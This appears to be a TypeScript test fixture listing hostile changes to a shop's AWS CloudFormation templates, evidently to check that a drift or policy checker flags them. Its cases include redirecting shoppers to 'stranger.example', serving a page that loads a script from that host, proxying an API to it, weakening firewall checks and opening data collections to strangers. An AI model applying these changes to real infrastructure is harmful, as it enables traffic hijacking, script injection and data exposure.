import type { Json, JsonRecord } from '../../../lib/cloudformation/model/json.ts';
import type { Shop } from '../diff/shop-edits.ts';
import { type Attack, strangers } from './attack.ts';

const own = '111111111111';
const target = `arn:aws:elasticloadbalancing:eu-west-1:${own}:targetgroup/taps/1`;
const listener = `arn:aws:elasticloadbalancing:eu-west-1:${own}:listener/app/boutique/1/2`;
const forward = [{ Type: 'forward', TargetGroupArn: target }];
const elsewhere = [
  { Type: 'redirect', RedirectConfig: { Host: 'stranger.example', StatusCode: 'HTTP_302' } },
];
const page = '<script src=https://stranger.example/x.js></script>';

/** Adds a rule that all requests meet first. */
function firstRule(listenerOf: (shop: Shop) => Json, actions: Json) {
  return (shop: Shop) =>
    shop.add('payments', 'First', {
      Type: 'AWS::ElasticLoadBalancingV2::ListenerRule',
      Properties: {
        ListenerArn: listenerOf(shop),
        Priority: 1,
        Conditions: [{ Field: 'path-pattern', PathPatternConfig: { Values: ['/*'] } }],
        Actions: actions,
      },
    });
}

const named = (): Json => listener;
const referred = ({ idOf }: Shop): Json => ({ Ref: idOf('payments', 'IngressLoadBalancerListener') });

function onFirewall(path: string, value: Json) {
  return ({ set }: Shop) => set('edge', 'Firewall', `Properties.${path}`, value);
}

/** Adds a route to the table of the functions. */
function route(properties: JsonRecord) {
  return ({ add, idOf }: Shop) =>
    add('network', 'Another', {
      Type: 'AWS::EC2::Route',
      Properties: { RouteTableId: { Ref: idOf('network', 'VpcFunctionRoutes1') }, ...properties },
    });
}

function collection(type: string, properties: JsonRecord, policy: Json) {
  return ({ add }: Shop) =>
    add('data', 'Collection', {
      Type: `AWS::OpenSearchServerless::${type}`,
      Properties: { Name: 'orders', ...properties, Policy: JSON.stringify(policy) },
    });
}

/** Puts a group before all rules of the firewall. */
function groupFirst(group: JsonRecord) {
  return ({ update }: Shop) =>
    update('edge', 'Firewall', 'Properties.Rules', (rules) => [
      ...(rules as readonly JsonRecord[]).map((rule) => ({
        ...rule,
        Priority: Number(rule['Priority']) + 10,
      })),
      {
        Name: 'first',
        Priority: 0,
        OverrideAction: { None: {} },
        Statement: { ManagedRuleGroupStatement: group },
        VisibilityConfig: { CloudWatchMetricsEnabled: true, MetricName: 'a', SampledRequestsEnabled: false },
      },
    ]);
}

const everyCollection = [{ ResourceType: 'collection', Resource: ['collection/*'] }];
const immunity = { ImmunityTimeProperty: { ImmunityTime: 259_200 } };

/** Ways to lead requests, packets and shoppers to what stands in no template of the shop. */
export const attacksByRoutes: readonly Attack[] = [
  ['a rule of a listener that is named takes all requests', 'EDGE-06-targets', firstRule(named, forward)],
  ['a rule takes all requests to a group that is named', 'EDGE-06-targets', firstRule(referred, forward)],
  ['a rule takes shoppers to another host', 'EDGE-03-answers', firstRule(referred, elsewhere)],
  [
    'a path of the shop leads to a group that no template has',
    'EDGE-06-targets',
    ({ set }) => set('payments', 'IngressLoadBalancerRoute1', 'Properties.Actions[0].TargetGroupArn', target),
  ],
  [
    'callbacks go to a function that no template has',
    'EDGE-06-targets',
    ({ set }) =>
      set('payments', 'IngressPaymentCallbackTarget', 'Properties.Targets', [
        { Id: `arn:aws:lambda:eu-west-1:${own}:function:taps` },
      ]),
  ],
  [
    'a listener has a certificate that no template has',
    'EDGE-06-targets',
    ({ add, idOf }) =>
      add('payments', 'Certificates', {
        Type: 'AWS::ElasticLoadBalancingV2::ListenerCertificate',
        Properties: {
          ListenerArn: { Ref: idOf('payments', 'IngressLoadBalancerListener') },
          Certificates: [{ CertificateArn: `arn:aws:acm:eu-west-1:${own}:certificate/1` }],
        },
      }),
  ],
  [
    'a part of the visitors is led to another distribution',
    'EDGE-06-targets',
    ({ set }) => set('edge', 'Shop', 'Properties.DistributionConfig.ContinuousDeploymentPolicyId', 'taps'),
  ],
  [
    'a route of an API names its target by text',
    'EDGE-06-targets',
    ({ add }) =>
      add('payments', 'Route', {
        Type: 'AWS::ApiGatewayV2::Route',
        Properties: { ApiId: 'a1b2c3', RouteKey: '$default', Target: 'integrations/taps' },
      }),
  ],
  [
    'an API that no template has asks a stranger',
    'EDGE-06-targets',
    ({ add }) =>
      add('payments', 'Integration', {
        Type: 'AWS::ApiGatewayV2::Integration',
        Properties: {
          ApiId: 'a1b2c3',
          IntegrationType: 'HTTP_PROXY',
          IntegrationUri: 'https://stranger.example',
        },
      }),
  ],
  [
    'the load balancer answers with a page',
    'EDGE-03-answers',
    ({ set }) =>
      set('payments', 'IngressLoadBalancerListener', 'Properties.DefaultActions[0].FixedResponseConfig', {
        ContentType: 'text/html',
        StatusCode: '200',
        MessageBody: page,
      }),
  ],
  [
    'the firewall answers with a page',
    'EDGE-03-answers',
    onFirewall('CustomResponseBodies.NotTaken', { ContentType: 'TEXT_HTML', Content: page }),
  ],
  [
    'the firewall leads shoppers to another host',
    'EDGE-03-answers',
    onFirewall('Rules[0].Action.Block.CustomResponse', {
      ResponseCode: 429,
      ResponseHeaders: [{ Name: 'Refresh', Value: '0;url=https://stranger.example' }],
    }),
  ],
  ['tokens of another site count', 'WAF-03-tokens', onFirewall('TokenDomains', ['stranger.example'])],
  ['who solved a puzzle is not asked for days', 'WAF-03-tokens', onFirewall('CaptchaConfig', immunity)],
  ['who passed a challenge is not asked for days', 'WAF-03-tokens', onFirewall('ChallengeConfig', immunity)],
  ['a rule asks for no puzzle for days', 'WAF-03-tokens', onFirewall('Rules[0].CaptchaConfig', immunity)],
  [
    'rules of another vendor come first, and may allow',
    'WAF-03',
    groupFirst({ VendorName: 'Stranger', Name: 'Everything' }),
  ],
  [
    'a group of AWS comes first, and allows robots',
    'WAF-03',
    groupFirst({
      VendorName: 'AWS',
      Name: 'AWSManagedRulesBotControlRuleSet',
      RuleActionOverrides: [{ Name: 'CategorySearchEngine', ActionToUse: { Allow: {} } }],
    }),
  ],
  [
    'a route leads to a peer that no template has',
    'NET-06-targets',
    route({ DestinationCidrBlock: '10.9.0.0/16', VpcPeeringConnectionId: 'pcx-0123456789abcdef0' }),
  ],
  [
    'a route leads to an interface that no template has',
    'NET-06-targets',
    route({ DestinationCidrBlock: '52.0.0.0/8', NetworkInterfaceId: 'eni-0123456789abcdef0' }),
  ],
  [
    'a route leads to a transit gateway that no template has',
    'NET-06-targets',
    route({ DestinationCidrBlock: '10.9.0.0/16', TransitGatewayId: 'tgw-0123456789abcdef0' }),
  ],
  [
    'names are resolved by servers that no template has',
    'NET-06-targets',
    ({ add, idOf }) =>
      add('network', 'Options', {
        Type: 'AWS::EC2::VPCDHCPOptionsAssociation',
        Properties: { VpcId: { Ref: idOf('network', 'Vpc') }, DhcpOptionsId: 'dopt-0123456789abcdef0' },
      }),
  ],
  [
    'a collection admits a stranger',
    'IAM-06-collections',
    collection('AccessPolicy', { Type: 'data' }, [
      { Rules: everyCollection, Principal: [`arn:aws:iam::${strangers}:root`] },
    ]),
  ],
  [
    'a collection is open to the internet',
    'IAM-06-collections',
    collection('SecurityPolicy', { Type: 'network' }, [{ Rules: everyCollection, AllowFromPublic: true }]),
  ],
  [
    'a collection is under a key of AWS',
    'IAM-06-collections',
    collection('SecurityPolicy', { Type: 'encryption' }, { Rules: everyCollection, AWSOwnedKey: true }),
  ],
];
